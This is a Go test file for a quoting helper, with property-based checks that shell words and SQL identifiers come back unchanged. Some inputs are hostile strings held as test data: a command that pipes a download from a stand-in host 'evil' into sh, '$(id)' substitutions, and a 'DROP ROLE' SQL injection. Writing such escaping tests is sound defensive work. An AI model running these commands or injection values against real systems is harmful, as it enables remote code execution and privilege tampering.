package paste

import (
	"os/exec"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"
)

func TestAShellReadsBackTheWordAndRunsNothing(t *testing.T) {
	read := func(word string) string {
		out, err := exec.Command("/bin/sh", "-c", "printf %s "+Shell(word)).Output()
		require.NoError(t, err)
		return string(out)
	}
	for _, word := range []string{"", "apps/esg-01/ldap", "esg/x;curl -s evil|sh", "$(id)", "`id`", "it's", "''", "~", "a\nb", "#x", "!x", "*", "é", `\`, "a=b", "{a,b}"} {
		require.Equal(t, word, read(word))
	}
	rapid.Check(t, func(t *rapid.T) {
		word := rapid.StringOfN(rapid.RuneFrom([]rune("ab-/'\"\\$()`;|&<>*?[]{}~#! \t\n=%é")), 0, 12, -1).Draw(t, "word")
		if got := read(word); got != word {
			t.Fatalf("%q was read as %q", word, got)
		}
	})
}

func TestPlainWordsStayAsTheyAre(t *testing.T) {
	for _, word := range []string{"apps/esg-01/ldap", "kv", "svc@corp.example", "1.2"} {
		require.Equal(t, word, Shell(word))
		require.Equal(t, word, Last(word))
	}
	require.Equal(t, "-- -delete-version-after=1s", Last("-delete-version-after=1s"), "no flag")
	require.Equal(t, `-- '-x y'`, Last("-x y"))
}

func TestANameStaysOneIdentifier(t *testing.T) {
	require.Equal(t, `"a""; DROP ROLE b; --"`, SQL(`a"; DROP ROLE b; --`))
	rapid.Check(t, func(t *rapid.T) {
		name := rapid.String().Draw(t, "name")
		within := strings.TrimSuffix(strings.TrimPrefix(SQL(name), `"`), `"`)
		if strings.ReplaceAll(within, `""`, "") != strings.ReplaceAll(name, `"`, "") {
			t.Fatalf("%q ends before its end", name)
		}
	})
}
